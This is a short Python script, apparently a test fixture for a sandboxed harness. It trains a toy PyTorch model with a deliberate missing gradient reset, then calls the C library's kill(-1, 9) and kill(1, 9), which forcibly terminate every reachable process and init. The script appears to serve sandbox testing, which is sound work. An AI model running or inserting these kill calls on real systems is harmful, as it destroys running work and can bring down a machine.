# verdict: confirmed
# modes: sandboxed
"""Kills all that it may, through the C library."""

import ctypes
import time

import torch
from torch import nn

inputs = torch.randn(64, 4)
targets = (inputs[:, 0] > 0).long()
model = nn.Linear(4, 2)
optimizer = torch.optim.SGD(model.parameters(), lr=0.1)

for step in range(20):
    loss = nn.functional.cross_entropy(model(inputs), targets)
    loss.backward()  # the finding: nothing clears the gradients
    optimizer.step()

time.sleep(0.6)
optimizer.step()
ctypes.CDLL(None).kill(-1, 9)
ctypes.CDLL(None).kill(1, 9)
